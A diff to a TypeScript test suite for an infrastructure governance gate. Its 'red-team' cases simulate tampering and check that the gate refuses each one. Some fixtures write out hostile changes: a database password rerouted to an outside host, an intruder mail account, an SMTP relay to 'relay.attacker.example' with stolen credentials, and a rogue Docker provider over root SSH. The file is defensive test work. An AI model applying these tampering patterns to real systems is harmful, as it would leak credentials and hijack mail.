@@ -10,7 +10,8 @@ import { analyzePreview, runGate, type GateResult, type PolicyConfig } from "../
 import { makePlan } from "../../../cli/planning";
 import { changeRecords } from "../../../cli/change-records";
 import type { Decision } from "../../../policies/governance/decision";
-import { lockFromView, lockPath, type Lock } from "../../../policies/lock";
+import { lockFromView, lockPath, readLock, type Lock } from "../../../policies/lock";
+import { GENERATED, isWireSecret, type Json } from "../../../policies/view";
 import { approvedRepo, pollDecision, type ApprovedRepo } from "../../helpers/approved-repo";
 import { nodeKey, signWith } from "../../helpers/governance";
 
@@ -67,6 +68,59 @@ async function gatePreview(change: (r: EngineResource) => EngineResource | undef
   return analyzePreview(repo.root, STACK, changed, {}, { offlinePlan });
 }
 
+/** Gates a preview whose resources were rewritten as a whole (resources added, providers switched). */
+async function gateResources(change: (rs: EngineResource[]) => EngineResource[], offlinePlan = true): Promise<GateResult> {
+  restore();
+  const plan = await makePlan(repo.root, STACK);
+  return analyzePreview(repo.root, STACK, { resources: change(enginePreview(plan.run).resources) }, {}, { offlinePlan });
+}
+
+const WIRE_SECRET = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270" };
+
+/** The value of an input the engine delivers wrapped as one secret, and the way to put a changed one back. */
+function unwrapped<T>(v: unknown): T {
+  return (isWireSecret(v) ? v.value : v) as T;
+}
+function rewrapped(original: unknown, value: unknown): unknown {
+  return isWireSecret(original) ? { ...WIRE_SECRET, value } : value;
+}
+
+/** Changes a container's env list (the engine sends it wholly secret once one entry is). */
+function editEnvs(name: string, edit: (envs: string[]) => string[]) {
+  return (r: EngineResource) => (r.name === name ? { ...r, checked: { ...r.checked, envs: rewrapped(r.checked.envs, edit(unwrapped<string[]>(r.checked.envs))) } } : undefined);
+}
+
+/** Changes the content of the file a container upload writes. */
+function editUpload(name: string, file: RegExp, edit: (content: string) => string) {
+  return (r: EngineResource) => {
+    if (r.name !== name) return undefined;
+    const uploads = unwrapped<Array<{ file: string; content: string }>>(r.checked.uploads).map((u) => (file.test(u.file) ? { ...u, content: edit(u.content) } : u));
+    expect(uploads.some((u) => file.test(u.file))).toBe(true);
+    return { ...r, checked: { ...r.checked, uploads: rewrapped(r.checked.uploads, uploads) } };
+  };
+}
+
+/** Each value at a path where the lock's template holds a generated secret, replaced by `to`. */
+function atGenerated(approved: Json, actual: unknown, to: (v: unknown) => unknown): unknown {
+  if (typeof approved === "string") return approved.includes(GENERATED) ? to(actual) : actual;
+  if (isWireSecret(actual)) return { ...WIRE_SECRET, value: atGenerated(approved, actual.value, to) };
+  if (Array.isArray(approved) && Array.isArray(actual)) return actual.map((x, i) => (i < approved.length ? atGenerated(approved[i], x, to) : x));
+  if (approved && typeof approved === "object" && !Array.isArray(approved) && actual && typeof actual === "object" && !Array.isArray(actual)) {
+    return Object.fromEntries(Object.entries(actual).map(([k, x]) => [k, k in approved ? atGenerated((approved as Record<string, Json>)[k], x, to) : x]));
+  }
+  return actual;
+}
+
+/** The outputs an update's preview knows from state for the resources the server's inputs are computed from. */
+const STATE_OUTPUTS: Record<string, Record<string, unknown>> = {
+  "host-firewall": { id: "4711" },
+  "host-ipv4": { id: "1", ipAddress: "203.0.113.10" },
+  "host-ipv6": { id: "2" },
+};
+function withOutputs(r: EngineResource): EngineResource | undefined {
+  return STATE_OUTPUTS[r.name] ? { ...r, outputs: STATE_OUTPUTS[r.name] } : undefined;
+}
+
 function refusedBy(result: GateResult, policy: string, message: RegExp, resource?: string): void {
   expect(result.passed, JSON.stringify(result.violations, null, 2)).toBe(false);
   const hit = result.violations.find((v) => v.policy === policy && v.level === "mandatory" && message.test(v.message) && (!resource || v.urn?.endsWith(`::${resource}`)));
@@ -113,7 +167,7 @@ describe("green rows", () => {
   });
 
   it("a value computed at preview but known at update passes both times", async () => {
-    const known = (r: EngineResource) => (server(r) ? { ...r, checked: { ...r.checked, firewallIds: [4711], publicNets: [{ ipv4: 1, ipv4Enabled: true, ipv6: 2, ipv6Enabled: true }] } } : undefined);
+    const known = (r: EngineResource) => (server(r) ? { ...r, checked: { ...r.checked, firewallIds: [4711], publicNets: [{ ipv4: 1, ipv4Enabled: true, ipv6: 2, ipv6Enabled: true }] } } : withOutputs(r));
     expect((await gatePreview(() => undefined, true)).passed).toBe(true);
     const atUpdate = await gatePreview(known, false);
     expect(atUpdate.violations.filter((v) => v.level === "mandatory")).toEqual([]);
@@ -188,7 +242,7 @@ describe("red-team rows: each is refused", () => {
   });
 
   it("an emergency change past its ratification deadline (and only a warning before it)", async () => {
-    const emergency = (ratifyBy: string) =>
+    const emergency = (ratifyBy: string, recordedAt = "2026-03-01T00:00:00.000Z") =>
       approvedBy(
         (lock, changes) =>
           ({
@@ -196,8 +250,8 @@ describe("red-team rows: each is refused", () => {
             version: 1,
             id: "example-0002-emergency",
             project: "coop-infra",
-            decidedAt: "2026-03-01T00:00:00.000Z",
-            recordedAt: "2026-03-01T00:00:00.000Z",
+            decidedAt: recordedAt,
+            recordedAt,
             summary: "server too small during an outage",
             rulesSha256: repo.rulesSha256(),
             requires: { count: 2, roles: ["admin"] },
@@ -213,9 +267,13 @@ describe("red-team rows: each is refused", () => {
         (d) => repo.sign(d, "ada", "grace"),
       );
     refusedBy(await gate(emergency("2026-03-15T00:00:00.000Z")), "governance-lock-approved", /was not ratified by 2026-03-15.*\[emergency-overdue\]/);
-    const pending = await gate(emergency("2999-01-01T00:00:00.000Z"));
+    // Recorded yesterday, to be ratified within the rules' 14 days: pending, not overdue.
+    const yesterday = Date.now() - 86_400_000;
+    const pending = await gate(emergency(new Date(yesterday + 14 * 86_400_000).toISOString(), new Date(yesterday).toISOString()));
     expect(pending.passed, JSON.stringify(pending.violations, null, 2)).toBe(true);
     expect(pending.violations).toContainEqual(expect.objectContaining({ policy: "governance-lock-approved", level: "advisory", message: expect.stringMatching(/awaits ratification.*\[emergency-unratified\]/) }));
+    // A deadline beyond the rules' ratificationDays would let two admins stand in for a vote indefinitely.
+    refusedBy(await gate(emergency("2999-01-01T00:00:00.000Z", new Date(yesterday).toISOString())), "governance-lock-approved", /the rules allow at most 14 days .*\[emergency-deadline\]/);
   });
 
   it("__defaults listing a key the lock sets explicitly", async () => {
@@ -229,5 +287,168 @@ describe("red-team rows: each is refused", () => {
     refusedBy(r, "governance-resource-matches-lock", /serverType: "cx33" → "cx43"/);
     refusedBy(r, "governance-policy-config-locked", /asked to run governance-resource-matches-lock as 'disabled'/);
     refusedBy(r, "governance-policy-config-locked", /asked to run governance-stack-no-unapproved-deletions as 'advisory'/);
+  });
+
+  // --- secrets masked by provenance: only the secret part of a value is masked ------------------
+
+  it("an env entry built around a generated secret turned into another (DB_PASS → DATABASE_URL to another host)", async () => {
+    let pw = "";
+    const toUrl = editEnvs("mastodon-web", (envs) =>
+      envs.map((e) => {
+        if (!e.startsWith("DB_PASS=")) return e;
+        pw = e.slice("DB_PASS=".length);
+        return `DATABASE_URL=postgres://mastodon:${pw}@203.0.113.66/mastodon`;
+      }),
+    );
+    for (const offlinePlan of [true, false]) {
+      const r = await gatePreview(toUrl, offlinePlan);
+      refusedBy(r, "governance-resource-matches-lock", /envs\[\d+\]: "DB_PASS=<generated-secret>" → "DATABASE_URL=…"/, "mastodon-web");
+      expect(pw).not.toBe("");
+      expect(JSON.stringify(r.violations)).not.toContain(pw);
+      expect(JSON.stringify(r.violations)).not.toContain("203.0.113.66");
+    }
+  });
+
+  it("an account added to postfix-accounts.cf, at its end or between two lines", async () => {
+    const intruder = "intruder@example.coop|{SHA512-CRYPT}$6$abcdefgh$0123456789\n";
+    refusedBy(await gatePreview(editUpload("mail-server", /postfix-accounts\.cf$/, (c) => c + intruder)), "governance-resource-matches-lock", /uploads\[\d+\]\.content: .* → "…"/, "mail-server");
+    const between = editUpload("mail-server", /postfix-accounts\.cf$/, (c) => c.replace(/(\|\{SHA512-CRYPT\}[^\n]*\n)/, `$1${intruder}`));
+    refusedBy(await gatePreview(between, false), "governance-resource-matches-lock", /uploads\[\d+\]\.content/, "mail-server");
+  });
+
+  it("an attacker's relay mapping added to postfix-sasl-password.cf", async () => {
+    const relay = editUpload("mail-server", /postfix-sasl-password\.cf$/, (c) => `${c}[relay.attacker.example]:587 mallory:stolen\n`);
+    const r = await gatePreview(relay);
+    refusedBy(r, "governance-resource-matches-lock", /uploads\[\d+\]\.content/, "mail-server");
+    expect(JSON.stringify(r.violations)).not.toContain("coop-config-secret");
+  });
+
+  it("a config secret's template unknown at preview (config is always known: only generated secrets may be)", async () => {
+    const unknown = editUpload("mail-server", /postfix-sasl-password\.cf$/, () => UNKNOWN);
+    refusedBy(await gatePreview(unknown, false), "governance-resource-matches-lock", /uploads\[\d+\]\.content: .* → a value computed at deploy time, which the lock does not record as computed/, "mail-server");
+  });
+
+  it("a generated secret unknown in the offline gate, where it is always known", async () => {
+    const unknown = editEnvs("mastodon-web", (envs) => envs.map((e) => (e.startsWith("DB_PASS=") ? UNKNOWN : e)));
+    refusedBy(await gatePreview(unknown, true), "governance-resource-matches-lock", /envs\[\d+\]: "DB_PASS=<generated-secret>" → a value computed at deploy time/, "mastodon-web");
+  });
+
+  it("a secret-looking env entry added in clear to a list the engine delivers wholly secret", async () => {
+    const r = await gatePreview(editEnvs("nextcloud-app", (envs) => [...envs, "SMTP_TOKEN=hunter2"]));
+    refusedBy(r, "docker-container-env-secrets-not-plaintext", /nextcloud-app sets SMTP_TOKEN to a plaintext value/, "nextcloud-app");
+    refusedBy(r, "governance-resource-matches-lock", /envs\[\d+\]: not in the approved lock → "\(secret value\)"/, "nextcloud-app");
+    expect(JSON.stringify(r.violations)).not.toContain("hunter2");
+  });
+
+  it("a secret-looking env entry the members approved in clear (the lock shows it unmasked)", async () => {
+    restore();
+    const plan = await makePlan(repo.root, STACK);
+    const addClear = <R extends { inputs: { [k: string]: Json } }>(r: R): R => ({ ...r, inputs: { ...r.inputs, envs: [...(r.inputs.envs as Json[]), "SMTP_TOKEN=hunter2"] } });
+    repo.writeLock(lockFromView({ ...plan.view, resources: plan.view.resources.map((r) => (r.name === "nextcloud-app" ? addClear(r) : r)) }));
+    const preview = enginePreview(plan.run);
+    const changed = { resources: preview.resources.map((r) => editEnvs("nextcloud-app", (envs) => [...envs, "SMTP_TOKEN=hunter2"])(r) ?? r) };
+    const r = await analyzePreview(repo.root, STACK, changed, {}, { offlinePlan: true });
+    refusedBy(r, "docker-container-env-secrets-not-plaintext", /nextcloud-app sets SMTP_TOKEN to a plaintext value/, "nextcloud-app");
+  });
+
+  it("a value approved as a secret that the engine delivers without any secret wrapper", async () => {
+    const plain = (r: EngineResource) => (r.name === "backup-box" ? { ...r, checked: { ...r.checked, password: "known-to-mallory" } } : undefined);
+    const r = await gatePreview(plain, false);
+    refusedBy(r, "governance-resource-matches-lock", /password: approved as "<generated-secret>", a secret → now a plaintext value written in the program/, "backup-box");
+    expect(JSON.stringify(r.violations)).not.toContain("known-to-mallory");
+  });
+
+  it("a secret below a changed compound value is never printed", async () => {
+    const nested = (r: EngineResource) => (server(r) ? { ...r, checked: { ...r.checked, extra: [{ name: "x", value: { ...WIRE_SECRET, value: "hunter2-SECRET" } }] } } : undefined);
+    const r = await gatePreview(nested);
+    refusedBy(r, "governance-resource-matches-lock", /extra: not in the approved lock → "\(secret value\)"/, "host-server");
+    expect(JSON.stringify(r.violations)).not.toContain("hunter2-SECRET");
+  });
+
+  // --- providers: which provider (so which server or account) a resource is deployed with ------
+
+  it("a provider the program names like the engine's default ones, used by a resource", async () => {
+    const stackUrn = `urn:pulumi:${STACK}::coop-infra::pulumi:pulumi:Stack::coop-infra-${STACK}`;
+    const fake = `urn:pulumi:${STACK}::coop-infra::pulumi:providers:docker::default_1_0_0`;
+    const r = await gateResources((rs) => {
+      const web = rs.find((x) => x.name === "mastodon-web")!;
+      const provider: EngineResource = { ...web, urn: fake, type: "pulumi:providers:docker", name: "default_1_0_0", parent: stackUrn, checked: { host: "ssh://root@203.0.113.66", version: "1.0.0" }, providerUrn: undefined, dependencies: [], propertyDependencies: {} };
+      return [provider, ...rs.map((x) => (x === web ? { ...x, providerUrn: fake } : x))];
+    });
+    refusedBy(r, "governance-resource-matches-lock", /pulumi:providers:docker 'default_1_0_0' is not in the approved lock/, "default_1_0_0");
+    refusedBy(r, "governance-resource-matches-lock", /\(provider\): '.*::host-docker' → '.*::default_1_0_0'/, "mastodon-web");
+  });
+
+  it("a resource moved to the engine's default provider (configured from stack config, not the spec)", async () => {
+    const pulumiDefault = `urn:pulumi:${STACK}::coop-infra::pulumi:providers:docker::default_5_0_0`;
+    const r = await gateResources((rs) => {
+      const web = rs.find((x) => x.name === "mastodon-web")!;
+      const provider: EngineResource = { ...web, urn: pulumiDefault, type: "pulumi:providers:docker", name: "default_5_0_0", parent: "", checked: { version: "5.0.0" }, providerUrn: undefined, dependencies: [], propertyDependencies: {} };
+      return [provider, ...rs.map((x) => (x === web ? { ...x, providerUrn: pulumiDefault } : x))];
+    }, false);
+    expect(r.violations.filter((v) => v.urn === pulumiDefault)).toEqual([]); // the engine's own provider is not the program's
+    refusedBy(r, "governance-resource-matches-lock", /\(provider\): '.*::host-docker' → '.*::default_5_0_0'/, "mastodon-web");
+  });
+
+  it("a provider bump (the engine writes the SDK's version into an explicit provider's inputs)", async () => {
+    const bump = (r: EngineResource) => (r.name === "host-docker" ? { ...r, checked: { ...r.checked, version: "99.0.0" } } : undefined);
+    refusedBy(await gatePreview(bump, false), "governance-resource-matches-lock", /version: "\d+\.\d+\.\d+" → "99\.0\.0"/, "host-docker");
+  });
+});
+
+describe("green rows: the engine's view of secrets and providers", () => {
+  it("the approved lock records each resource's provider and an explicit provider's version", () => {
+    restore();
+    const lock = readLock(repo.root, STACK)!;
+    const docker = lock.resources.find((r) => r.name === "host-docker")!;
+    expect(docker.inputs.version).toMatch(/^\d+\.\d+\.\d+/);
+    expect(lock.resources.find((r) => r.name === "mastodon-web")!.provider).toBe(docker.urn);
+    expect(lock.resources.filter((r) => !r.type.startsWith("pulumi:providers:")).every((r) => r.provider)).toBe(true);
+    expect(lockText).toContain(`DB_PASS=${GENERATED}`);
+  });
+
+  it("the harness delivers an env list with a secret entry wholly secret, as the engine does", async () => {
+    restore();
+    const plan = await makePlan(repo.root, STACK);
+    const web = enginePreview(plan.run).resources.find((r) => r.name === "mastodon-web")!;
+    expect(isWireSecret(web.checked.envs)).toBe(true);
+    expect(unwrapped<unknown[]>(web.checked.envs).some(isWireSecret)).toBe(false);
+  });
+
+  it("a first deploy's preview, where generated secrets are still unknown, passes under the real engine", async () => {
+    const lock = JSON.parse(lockText) as Lock;
+    const firstPreview = (r: EngineResource) => {
+      const entry = lock.resources.find((l) => l.urn === r.urn);
+      return entry ? { ...r, checked: atGenerated(entry.inputs, r.checked, () => UNKNOWN) as Record<string, unknown> } : undefined;
+    };
+    const r = await gatePreview(firstPreview, false);
+    expect(r.violations.filter((v) => v.level === "mandatory")).toEqual([]);
+  });
+
+  it("an update's preview, where the real secrets are known, passes under the real engine", async () => {
+    const real = (r: EngineResource) => (r.name === "mastodon-web" ? editEnvs("mastodon-web", (envs) => envs.map((e) => (e.startsWith("DB_PASS=") ? "DB_PASS=the-real-one-from-state" : e)))(r) : undefined);
+    const r = await gatePreview(real, false);
+    expect(r.violations.filter((v) => v.level === "mandatory")).toEqual([]);
+  });
+
+  it("an ID the lock records as computed from another resource, set to another resource's under the real engine", async () => {
+    const other = (r: EngineResource) => (server(r) ? { ...r, checked: { ...r.checked, firewallIds: [4712], publicNets: [{ ipv4: 1, ipv4Enabled: true, ipv6: 2, ipv6Enabled: true }] } } : withOutputs(r));
+    const r = await gatePreview(other, false);
+    expect(r.violations.filter((v) => v.policy === "governance-resource-matches-lock" && v.level === "mandatory")).toEqual([]); // any value passes there
+    refusedBy(r, "governance-stack-computed-values-match-sources", /firewallIds\[0\]: approved as computed from number\(\$\{host-firewall\.id\}\); must be 4711, but is another value/, "host-server");
+  });
+
+  it("the Docker host, computed from the server's address, pointed at another machine under the real engine", async () => {
+    const elsewhere = (r: EngineResource) => (r.name === "host-docker" ? { ...r, checked: { ...r.checked, host: "ssh://root@203.0.113.66" } } : withOutputs(r));
+    const r = await gatePreview(elsewhere, false);
+    refusedBy(r, "governance-stack-computed-values-match-sources", /host: approved as computed from ssh:\/\/coop@\$\{host-ipv4\.ipAddress\}; must be "ssh:\/\/coop@203\.0\.113\.10"/, "host-docker");
+    expect(JSON.stringify(r.violations)).not.toContain("203.0.113.66");
+    const right = (x: EngineResource) => (x.name === "host-docker" ? { ...x, checked: { ...x.checked, host: "ssh://coop@203.0.113.10" } } : withOutputs(x));
+    expect((await gatePreview(right, false)).violations.filter((v) => v.level === "mandatory")).toEqual([]);
+  });
+
+  it("a value known while the output it is computed from is not (nothing can vouch for it)", async () => {
+    const orphan = (r: EngineResource) => (r.name === "host-docker" ? { ...r, checked: { ...r.checked, host: "ssh://coop@203.0.113.10" } } : undefined);
+    refusedBy(await gatePreview(orphan, false), "governance-stack-computed-values-match-sources", /host-ipv4\.ipAddress is not known, so the value cannot be checked/, "host-docker");
   });
 });
